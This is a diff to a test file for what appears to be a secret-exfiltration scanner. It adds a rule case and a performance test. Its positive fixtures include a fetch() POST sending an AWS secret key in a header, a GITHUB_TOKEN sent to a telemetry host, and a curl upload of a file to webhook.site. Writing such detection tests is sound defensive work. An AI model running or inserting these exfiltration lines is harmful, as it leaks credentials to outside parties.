@@ -581,6 +581,16 @@ describeRuleCases('exfiltration', [
     negative: sh('curl https://discord.com/developers/docs'),
   },
   {
+    id: 'SG-EXFIL-300',
+    // The AWS secret key itself handed to another API as a header.
+    file: 'code-step.js',
+    positive:
+      "await fetch(URL, { method: 'POST', headers: { 'X-Aws-Secret': AWS_SECRET_ACCESS_KEY }, body });\n",
+    // The SDK's own credentials option: the key signs requests and never leaves.
+    negative:
+      'const s3 = new S3Client({ credentials: { accessKeyId: id, secretAccessKey: process.env.AWS_SECRET_ACCESS_KEY } });\n',
+  },
+  {
     id: 'SG-EXFIL-004',
     positive: sh('curl -d @notes.txt https://webhook.site/abc'),
     negative: sh('curl -d @notes.txt https://api.example.net/notes'),
@@ -1181,6 +1191,13 @@ describe('SG-EXFIL-001 on a credential in a request header or a query auth param
       `const url = '${url}';\nawait fetch(url, { method: 'POST', headers: { 'X-Key': process.env.GITHUB_TOKEN }, body });\n`;
     expect(flows(js('https://api.github.com/graphql'), 'scripts/gql.mjs')).toEqual([]);
     expect(flows(js('https://telemetry.brightfern.io/ingest'), 'scripts/gql.mjs')).toHaveLength(1);
+  });
+
+  it('should look for an AWS secret header in 1 MiB of near misses quickly', () => {
+    const text = `const h = {${"'X-a-b-c-d-e-f': os.environ.get('aws_secret_access ".repeat(1 << 15)}};\n`;
+    const start = Date.now();
+    expect(findingsOf(js(text)).filter((f) => f.rule_id === 'SG-EXFIL-300')).toEqual([]);
+    expect(Date.now() - start).toBeLessThan(200);
   });
 
   it('should read a 1 MiB header line quickly', () => {
